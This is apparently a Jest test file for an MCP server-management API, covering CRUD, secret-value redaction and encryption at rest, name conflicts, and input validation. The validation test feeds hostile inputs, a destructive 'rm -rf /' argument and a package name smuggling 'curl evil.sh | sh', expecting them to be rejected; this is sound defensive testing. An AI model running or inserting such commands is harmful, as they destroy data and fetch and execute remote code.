import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { makeTestEnv, loginHeader, type RunningApi, startApi, type TestEnv } from '../../../../tests/support/test-env';

const SECRET = 'ghp_SuperSecretValue_4f9c2a7e1b';

/** A valid create body, with overrides. */
function serverBody(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    name: 'everything',
    displayName: 'Everything',
    description: 'The MCP test server',
    runtime: 'npx',
    package: '@modelcontextprotocol/server-everything',
    args: ['stdio'],
    env: [
      { key: 'GITHUB_TOKEN', description: 'A token', required: true, secret: true, value: SECRET },
      { key: 'LOG_LEVEL', description: 'verbosity', required: false, secret: false },
    ],
    ...overrides,
  };
}

describe('ServersController', () => {
  let testEnv: TestEnv;
  let sut: RunningApi;
  let auth: string;

  beforeAll(async () => {
    testEnv = makeTestEnv();
    sut = await startApi(testEnv.env);
    auth = await loginHeader(sut.http);
  });

  afterAll(async () => {
    await sut.close();
    await testEnv.cleanup();
  });

  it('creates, gets, updates, lists and deletes a server', async () => {
    const created = await sut.http.post('/api/servers').set('Authorization', auth).send(serverBody()).expect(201);
    const id = created.body.id as string;
    expect(created.body).toMatchObject({
      name: 'everything',
      runtime: 'npx',
      transport: 'stdio',
      isolation: 'session',
      network: 'none',
      enabled: true,
      limits: { memoryMb: 512, cpus: 1, pids: 256 },
      installState: { status: 'none' },
      env: [
        { key: 'GITHUB_TOKEN', description: 'A token', required: true, secret: true, hasValue: true },
        { key: 'LOG_LEVEL', description: 'verbosity', required: false, secret: false, hasValue: false },
      ],
    });

    const fetched = await sut.http.get(`/api/servers/${id}`).set('Authorization', auth).expect(200);
    expect(fetched.body).toEqual(created.body);

    const updated = await sut.http
      .post(`/api/servers/${id}/update`)
      .set('Authorization', auth)
      .send({ displayName: 'Everything!', enabled: false, limits: { memoryMb: 256 } })
      .expect(200);
    expect(updated.body).toMatchObject({
      displayName: 'Everything!',
      enabled: false,
      limits: { memoryMb: 256, cpus: 1 },
    });
    expect(updated.body.env[0]).toMatchObject({ key: 'GITHUB_TOKEN', hasValue: true });

    const list = await sut.http.get('/api/servers').set('Authorization', auth).expect(200);
    expect(list.body.map((server: { id: string }) => server.id)).toContain(id);

    const deleted = await sut.http.post(`/api/servers/${id}/delete`).set('Authorization', auth).expect(200);
    expect(deleted.body).toEqual({ deleted: true, jobId: expect.stringMatching(/^containers\.teardown-server\./) });
    await sut.http.get(`/api/servers/${id}`).set('Authorization', auth).expect(404);
    await sut.http.post(`/api/servers/${id}/update`).set('Authorization', auth).send({}).expect(404);
    await sut.http.post(`/api/servers/${id}/delete`).set('Authorization', auth).expect(404);
  });

  it('keeps a secret on update when no value is sent, replaces it when one is, clears it on null', async () => {
    const created = await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send(serverBody({ name: 'keeper' }))
      .expect(201);
    const env = (value?: string | null) => [
      {
        key: 'GITHUB_TOKEN',
        description: 'A token',
        required: true,
        secret: true,
        ...(value === undefined ? {} : { value }),
      },
    ];
    const kept = await sut.http
      .post(`/api/servers/${created.body.id}/update`)
      .set('Authorization', auth)
      .send({ env: env() });
    expect(kept.body.env).toEqual([expect.objectContaining({ key: 'GITHUB_TOKEN', hasValue: true })]);
    const cleared = await sut.http
      .post(`/api/servers/${created.body.id}/update`)
      .set('Authorization', auth)
      .send({ env: env(null) });
    expect(cleared.body.env).toEqual([expect.objectContaining({ key: 'GITHUB_TOKEN', hasValue: false })]);
  });

  it('answers 400 with field errors for invalid input', async () => {
    const bad = await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send({ name: 'Bad Name!', runtime: 'npx', args: 'rm -rf /', env: [{ key: '1BAD' }] })
      .expect(400);
    const fields = (bad.body.errors as { field: string }[]).map((error) => error.field);
    expect(fields).toEqual(expect.arrayContaining(['name', 'args', 'env.0.key']));

    const noPackage = await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send({ name: 'nopkg', runtime: 'npx' })
      .expect(400);
    expect(noPackage.body.errors).toEqual([{ field: 'package', message: expect.stringContaining('required') }]);

    const injected = await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send({ name: 'inject', runtime: 'npx', package: 'foo; curl evil.sh | sh' })
      .expect(400);
    expect(injected.body.errors[0].field).toBe('package');

    const remote = await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send({ name: 'remote', runtime: 'remote', transport: 'stdio', url: 'https://mcp.example.com/mcp' })
      .expect(400);
    expect(remote.body.errors).toEqual([{ field: 'transport', message: expect.any(String) }]);
  });

  it('accepts an analyzer plan as it is', async () => {
    const plan = {
      name: 'from-plan',
      displayName: 'From a plan',
      description: 'x',
      runtime: 'docker',
      image: 'ghcr.io/github/github-mcp-server',
      args: [],
      transport: 'stdio',
      env: [{ key: 'GITHUB_PERSONAL_ACCESS_TOKEN', description: 'PAT', required: true, secret: true }],
      confidence: 0.9,
      warnings: ['something'],
      evidence: { runtime: { file: 'README.md', line: 10 } },
    };
    const created = await sut.http.post('/api/servers').set('Authorization', auth).send(plan).expect(201);
    expect(created.body).toMatchObject({
      name: 'from-plan',
      runtime: 'docker',
      image: 'ghcr.io/github/github-mcp-server',
    });
    expect(created.body).not.toHaveProperty('confidence');
  });

  it('answers 409 when the name is taken, on create and on rename', async () => {
    await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send(serverBody({ name: 'taken' }))
      .expect(201);
    await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send(serverBody({ name: 'taken' }))
      .expect(409);
    const other = await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send(serverBody({ name: 'other' }))
      .expect(201);
    await sut.http
      .post(`/api/servers/${other.body.id}/update`)
      .set('Authorization', auth)
      .send({ name: 'taken' })
      .expect(409);
  });

  it('never returns a secret value, and never stores it as plaintext in the SQLite files', async () => {
    const created = await sut.http
      .post('/api/servers')
      .set('Authorization', auth)
      .send(serverBody({ name: 'secretive' }))
      .expect(201);
    const responses = [
      created,
      await sut.http.get(`/api/servers/${created.body.id}`).set('Authorization', auth),
      await sut.http.get('/api/servers').set('Authorization', auth),
      await sut.http
        .post(`/api/servers/${created.body.id}/update`)
        .set('Authorization', auth)
        .send({ description: 'y' }),
    ];
    for (const response of responses) expect(response.text).not.toContain(SECRET);

    const files = readdirSync(testEnv.dataDir).filter((file) => file.startsWith('mcp-router.sqlite'));
    expect(files).toContain('mcp-router.sqlite');
    const contents = files.map((file) => readFileSync(join(testEnv.dataDir, file)));
    // The row is there (the test can see stored data) but the secret is not, in the database nor its WAL.
    expect(contents.some((content) => content.includes(Buffer.from('GITHUB_TOKEN')))).toBe(true);
    for (const content of contents) expect(content.includes(Buffer.from(SECRET))).toBe(false);
  });
});
